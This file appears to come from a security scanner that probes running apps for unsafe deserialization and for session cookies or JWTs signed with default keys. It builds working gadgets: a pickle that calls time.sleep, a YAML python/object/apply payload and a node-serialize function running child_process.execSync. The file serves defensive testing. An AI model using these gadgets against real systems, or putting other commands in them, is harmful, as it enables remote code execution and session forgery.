"""Unsafe deserialization (CWE-502) and sessions signed with a guessable key (CWE-321).

- **Serialized objects** the app hands out (a cookie or field holding a base64 Python pickle, a node-serialize
  object) or accepts (inputs named like serialized state): an object that, when deserialized, makes the process
  sleep is sent in its place (a pickle of `time.sleep`, YAML's `!!python/object/apply`, a node-serialize function);
  the answer is late by the asked seconds, each time, against the same object asking for no sleep sent in between
  (services/analyzers/dynamic/timing.py). The code that runs is harmless and confined to the app's sandbox.
- **Signed sessions with a known key**: a Flask session cookie, an express-session cookie or an HS256 JWT whose
  signature verifies with a default or example secret (a short list of the keys tutorials and templates ship):
  anyone can sign a session of any user.
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

from services.analyzers.dynamic.attack_tool import AttackTool, Reach, anchor
from services.analyzers.dynamic.attacker import Attacker, Sent
from services.analyzers.dynamic.attacks import Attack, Point
from services.analyzers.dynamic.expectations import SignedWith
from services.analyzers.dynamic.proof import attack_finding, make_proof
from services.analyzers.dynamic.recon import Recon
from services.analyzers.dynamic.session_keys import b64decode, signing_key
from services.analyzers.dynamic.timing import DELAY_S, TIMEOUT_S, proven_delay
from services.analyzers.dynamic.users import cookies_set
from services.analyzers.running_app.client import Fetched
from services.analyzers.running_app.surface.model import Endpoint, Field
from shared.results.findings import Finding

CWE = "CWE-502"
WEAK_KEY_CWE = "CWE-321"
PROTOCOL_0 = re.compile(rb"^(\(dp|\(lp|c[\w.]+\n\w+\n)")  # a pickle of protocol 0: a dict, a list, a global
STATE_NAMES = re.compile(
    r"data|state|object|obj|pickle|payload|session|prefs|preferences|settings|profile|cart|serialized|blob|yaml|config|import|restore|backup",
    re.IGNORECASE,
)
WHY_DELAY = "an object that sleeps when it is deserialized delays the answer by that long, each time, beyond every answer to the same object sleeping 0 seconds sent in between: the app deserializes what users send, which runs code of the sender's choosing"
WHY_KEY = "the signature of the session the app issued verifies with the key '{key}', a default that ships with tutorials and templates: anyone can sign a session for any user"


def pickle_sleep(seconds: int) -> bytes:
    """A protocol-0 pickle that calls time.sleep(seconds) when loaded."""
    return f"ctime\nsleep\n(I{seconds}\ntR.".encode()


def gadgets(seconds: int) -> list[tuple[str, str]]:
    """(format, value to send) of objects that sleep `seconds` when deserialized."""
    pickled = pickle_sleep(seconds)
    node = json.dumps(
        {"assay": f"_$$ND_FUNC$$_function(){{require('child_process').execSync('sleep {seconds}')}}()"}
    )
    return [
        ("pickle", base64.b64encode(pickled).decode()),
        ("pickle", base64.urlsafe_b64encode(pickled).decode()),
        ("yaml", f"!!python/object/apply:time.sleep [{seconds}]"),
        ("node-serialize", base64.b64encode(node.encode()).decode()),
        ("node-serialize", node),
    ]


def serialized_kind(value: str) -> str | None:
    """What a value holds, when it may be a serialized object: a pickle, a node-serialize object (or the base64
    JSON it writes for plain objects), a PHP object."""
    raw = b64decode(value.strip('"')) if len(value) >= 8 else None
    if raw is not None:
        if (
            raw[:1] == b"\x80"
            and raw[1:2] in (b"\x02", b"\x03", b"\x04", b"\x05")
            or PROTOCOL_0.match(raw) is not None
        ):
            return "pickle"
        if b"_$$ND_FUNC$$_" in raw:
            return "node-serialize"
        if raw.startswith(b"{") and raw.rstrip().endswith(
            b"}"
        ):  # what node-serialize writes for plain objects
            return "base64-json"
        if re.match(rb"^[aO]:\d+:", raw):
            return "php"
    return None


class Deserialization(AttackTool):
    name = "deserialization"
    cwe = CWE

    async def attack(
        self, recon: Recon, attacker: Attacker, findings: list[Finding], metrics: dict[str, Any]
    ) -> None:
        issued = self.issued(recon)
        metrics["serialized_values"] = sorted(f"{name} ({kind})" for name, (kind, _) in issued.items())
        findings += self.weak_keys(recon)
        tried: set[tuple[tuple[str, str, str], str]] = set()  # (endpoint, cookie) already sent an object
        for name, (_kind, sent) in issued.items():
            endpoint = _endpoint_of(recon, sent)
            point = Point(endpoint=endpoint, field=Field(name=name, location="cookie"))
            tried.add((endpoint.key, name))
            found = await self.sleeps(attacker, Reach(endpoint=endpoint, session=None, baseline=sent), point)
            if found is not None:
                findings.append(found)
        async for reached, point in self.insertion_points(
            recon, attacker, ("cookie", "form", "json", "query", "header")
        ):
            wanted = point.field.name in issued or STATE_NAMES.search(point.field.name)
            if (point.endpoint.key, point.field.name) in tried or not wanted:
                continue
            found = await self.sleeps(attacker, reached, point)
            if found is not None:
                findings.append(found)

    def issued(self, recon: Recon) -> dict[str, tuple[str, Sent]]:
        """Cookies the app set during the reconnaissance (its crawl, the users' sign-up and log-in) that hold
        serialized objects: name → (kind, the answer that set it)."""
        answers = [_as_sent(recon, fetched) for fetched in recon.exchanges if fetched.answered]
        answers += [sent for session in recon.sessions for sent in session.made_by]
        found: dict[str, tuple[str, Sent]] = {}
        for sent in answers:
            for name, value in cookies_set(sent).items():
                kind = serialized_kind(value)
                if kind:
                    found.setdefault(name, (kind, sent))
        return found

    def weak_keys(self, recon: Recon) -> list[Finding]:
        findings = []
        reported: set[str] = set()
        for session in recon.sessions:
            for index, sent in enumerate(session.made_by):
                tokens = dict(cookies_set(sent))
                bearer = session.headers.get("Authorization", "").removeprefix("Bearer ")
                if bearer and bearer in sent.text:
                    tokens["Authorization bearer token"] = bearer
                for name, value in tokens.items():
                    cracked = signing_key(value)
                    if cracked is None or name in reported:
                        continue
                    reported.add(name)
                    scheme, key = cracked
                    endpoint = _endpoint_of(recon, sent)
                    findings.append(
                        attack_finding(
                            tool=self.name,
                            rule_id="weak-session-key",
                            severity="high",
                            message=f"The {scheme} of '{name}' is signed with the guessable key {key!r}: sessions of any user can be forged",
                            cwe=WEAK_KEY_CWE,
                            endpoint=endpoint,
                            anchor=f"{scheme}:{name}",
                            proof=make_proof(
                                session.made_by[: index + 1], value[:40], WHY_KEY.format(key=key)
                            ),
                            expectation=SignedWith(exchange=index, name=name, key=key),
                            extra={"scheme": scheme, "key": key, "cookie": name},
                        )
                    )
        return findings

    async def sleeps(self, attacker: Attacker, reached: Reach, point: Point) -> Finding | None:
        key = (point.field.name, point.field.location)
        for index, (kind, _) in enumerate(gadgets(DELAY_S)):

            async def send(seconds: int, index: int = index) -> Sent:
                value = gadgets(seconds)[index][1]
                return await attacker.send(reached.attack({key: value}, timeout_s=TIMEOUT_S))

            delay = await proven_delay(send, DELAY_S, 0, baseline_s=reached.baseline.elapsed_s)
            if delay is None:
                continue
            return attack_finding(
                tool=self.name,
                rule_id="unsafe-deserialization",
                severity="critical",
                message=f"Unsafe deserialization ({kind}) of the {point.label}: an object that sleeps {DELAY_S} s when loaded delays the answer by at least {delay.late_s:.1f} s",
                cwe=CWE,
                endpoint=reached.endpoint,
                anchor=anchor(point),
                proof=make_proof(delay.proof, f"{delay.slow.elapsed_s:.1f} s", WHY_DELAY),
                expectation=delay.expectation,
                extra={"parameter": point.field.name, "location": point.field.location, "format": kind},
            )
        return None


def _as_sent(recon: Recon, fetched: Fetched) -> Sent:
    """A GET of the reconnaissance as if a check had sent it (its target and path from the URL)."""
    target, _, path = recon.sites.path_of(fetched.url).partition(":")
    return Sent(attack=Attack(method=fetched.method, target=target, path=path or "/"), answer=fetched)


def _endpoint_of(recon: Recon, sent: Sent) -> Endpoint:
    """The surface's endpoint an exchange was sent to (its handler included), else one made from the exchange."""
    path = sent.attack.path.split("?", 1)[0]
    handler = recon.surface.handler_for(sent.attack.method, path, sent.attack.target)
    known = next((e for e in recon.surface.endpoints if e.handler is handler and handler is not None), None)
    return known or Endpoint(method=sent.attack.method, path=path, target=sent.attack.target)
